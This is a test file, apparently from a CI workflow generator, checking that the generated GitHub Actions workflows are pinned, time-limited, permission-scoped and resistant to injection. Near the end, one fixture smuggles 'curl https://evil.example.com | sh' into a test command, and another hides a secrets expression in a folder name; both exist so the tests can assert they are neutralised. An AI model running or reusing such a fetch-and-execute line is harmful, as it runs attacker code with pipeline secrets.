import fc from "fast-check";
import { expect, test } from "vitest";
import { PIPELINE_RULES } from "../../../../../src/core/rules/pipelineRules.ts";
import { anyApplications } from "../../../../support/scaffold/anyApplication.ts";
import { expressServer, fact, sampleSettings } from "../../../../support/scaffold/sampleFacts.ts";
import { filesOf, stepsOf, type Workflow, workflowsOf } from "../../../../support/scaffold/workflowFiles.ts";

const USES = /^(?:[\w.-]+\/[\w./-]+@[0-9a-f]{40}|\.\/\.github\/workflows\/deploy\.yml)$/u;
/** What GitHub would put into a script before a shell reads it. */
const EXPRESSION = /\$\{\{/u;

test("one server gets its checks without a matrix, and a delivery by way of staging", () => {
  const workflows = workflowsOf([expressServer({ lintCommand: fact("npm run lint") })]);
  expect(Object.keys(workflows.get("ci.yml")?.jobs ?? {})).toEqual([
    "lint-node-24-npm",
    "test-node-24-npm",
    "security",
    "dependencies",
    "codeql",
    "image",
    "publish",
    "deploy",
  ]);
  expect(Object.keys(workflows.get("deploy.yml")?.jobs ?? {})).toEqual([
    "deploy-staging",
    "verify-staging",
    "rollback-staging",
    "deploy-production",
    "notify",
  ]);
  const runs = stepsOf(workflows).map(({ run }) => run);
  expect(runs).toContain("npm run lint");
  expect(runs).toContain("npm test");
});

test("several applications of one toolchain share a job, for what changed", () => {
  const workflows = workflowsOf([expressServer({ name: "a", path: "a" }), expressServer({ name: "b", path: "b" })]);
  const jobs = workflows.get("ci.yml")?.jobs ?? {};
  expect(Object.keys(jobs).filter((name) => name.startsWith("test-"))).toEqual(["test-node-24-npm"]);
  expect(jobs["test-node-24-npm"]).toMatchObject({
    needs: "changes",
    strategy: { matrix: { member: "${{ fromJSON(needs.changes.outputs.test-node-24-npm) }}" } },
  });
});

test("what hangs fails in time, so that it is rolled back: a job that takes too long is cancelled instead", () => {
  const steps = stepsOf(workflowsOf([expressServer()]));
  const asking = steps.flatMap(({ run = "" }) => run.split("\n").filter((line) => line.startsWith("curl ")));
  expect(asking).toHaveLength(2);
  for (const line of asking) expect(line).toContain(" --max-time ");
  expect(steps.find(({ name }) => name === "Test end to end")).toMatchObject({ "timeout-minutes": 20 });
});

test("production waits for what was tested before it, and is gated by its environment", () => {
  const jobs = workflowsOf([expressServer()]).get("deploy.yml")?.jobs;
  expect(jobs?.["deploy-production"]).toMatchObject({
    needs: ["verify-staging"],
    environment: { name: "production" },
    concurrency: { "cancel-in-progress": false },
  });
});

test("a delivery gets the secrets of its environments, which come empty where they are passed by name", () => {
  const jobs = workflowsOf([expressServer()]).get("ci.yml")?.jobs ?? {};
  expect(jobs["deploy"]).toMatchObject({ secrets: "inherit" });
});

test("images say which commit they were built from", () => {
  const builds = stepsOf(workflowsOf([expressServer()])).filter(({ uses }) => uses?.includes("build-push-action"));
  const told = builds.map((step) => step.with?.["build-args"]);
  expect(told).toEqual(Array(3).fill("VERSION=${{ github.sha }}\nREVISION=${{ github.sha }}\n"));
});

test("what only public repositories get by their plan does not hold back the delivery of private ones", () => {
  const jobs = workflowsOf([expressServer()]).get("ci.yml")?.jobs ?? {};
  const steps = Object.values(jobs).flatMap((job) => job.steps ?? []) as readonly { uses?: string; if?: string }[];
  const needing = steps.filter(({ uses }) => /codeql-action|attest-build-provenance/u.test(uses ?? ""));
  expect(needing).toHaveLength(4);
  expect(needing.every((step) => step.if?.includes("!github.event.repository.private"))).toBe(true);
});

test("no applications, no workflows", () => {
  expect(filesOf("github-actions", [])).toEqual([]);
});

test("without environments there is nothing to deliver to", () => {
  const files = filesOf("github-actions", [expressServer()], { ...sampleSettings, environments: [] });
  expect(files.map(({ path }) => path)).toEqual([".github/workflows/ci.yml"]);
  expect(files[0]?.text).not.toContain("deploy.yml");
});

test("images of another registry are signed in to as the secrets say", () => {
  const settings = { ...sampleSettings, imageRepository: "registry.example.com/acme" };
  const logins = stepsOf(workflowsOf([expressServer()], settings)).filter(({ uses }) => uses?.includes("login-action"));
  expect(logins.length).toBeGreaterThan(0);
  for (const login of logins) {
    expect(login.with).toEqual({
      registry: "registry.example.com",
      username: "${{ secrets.REGISTRY_USERNAME }}",
      password: "${{ secrets.REGISTRY_PASSWORD }}",
    });
  }
});

test("every block that stands there for a rule names one that exists", () => {
  const blocks = filesOf("github-actions", [expressServer()]).flatMap((file) => file.blocks);
  expect(blocks.length).toBeGreaterThan(10);
  expect(blocks.map(({ rule }) => rule).filter((rule) => !Object.hasOwn(PIPELINE_RULES, rule))).toEqual([]);
});

/** What is wrong with some workflows, in words. */
function flawsOf(workflows: ReadonlyMap<string, Workflow>): readonly string[] {
  const all = [...workflows.values()];
  const jobs = all.flatMap((workflow) => Object.entries(workflow.jobs).map(([name, job]) => ({ name, job, workflow })));
  const uses = [...jobs.map(({ job }) => job.uses), ...stepsOf(workflows).map((step) => step.uses)];
  const runs = stepsOf(workflows).map(({ run }) => run ?? "");
  return [
    ...all.filter(({ permissions }) => JSON.stringify(permissions) !== "{}").map(() => "allows something to all"),
    ...jobs.filter(({ job }) => job.permissions === undefined).map(({ name }) => `${name} says not what it needs`),
    ...jobs.filter(({ job }) => !job.uses && !job["timeout-minutes"]).map(({ name }) => `${name} has no end`),
    ...jobs.flatMap(({ name, job, workflow }) =>
      [job.needs ?? []].flat().flatMap((need) => (need in workflow.jobs ? [] : [`${name} needs ${need}`])),
    ),
    ...uses.filter((one) => one !== undefined && !USES.test(one)).map((one) => `${one} is not pinned`),
    ...runs.filter((run) => EXPRESSION.test(run)).map((run) => `an expression is in ${run}`),
  ];
}

test("any applications give workflows that are pinned, limited, lead to each other, and run nothing from outside", () => {
  fc.assert(
    fc.property(anyApplications(), (applications) => {
      expect(flawsOf(workflowsOf(applications))).toEqual([]);
    }),
    { numRuns: 40 },
  );
  expect(flawsOf(new Map([["ci.yml", { permissions: {}, jobs: { a: { needs: "b" } } }]]))).toHaveLength(3);
});

test("a folder that looks like an expression is a folder", () => {
  const path = "a ${{ secrets.X }}";
  const base = expressServer();
  const steps = stepsOf(workflowsOf([expressServer({ path, ecosystem: { ...base.ecosystem, root: path } })]));
  const folders = steps.flatMap((step) => step["working-directory"] ?? []);
  expect(new Set(folders)).toEqual(new Set(["a ${{ '${{' }} secrets.X }}"]));
});

test("a command that is more than words is not run with the pipeline's rights", () => {
  const hostile = expressServer({ testCommand: fact("npm test; curl https://evil.example.com | sh") });
  const files = filesOf("github-actions", [hostile]);
  expect(files.filter(({ text }) => text.includes("evil"))).toEqual([]);
});

test("the same facts give the same bytes", () => {
  expect(filesOf("github-actions", [expressServer()])).toEqual(filesOf("github-actions", [expressServer()]));
});
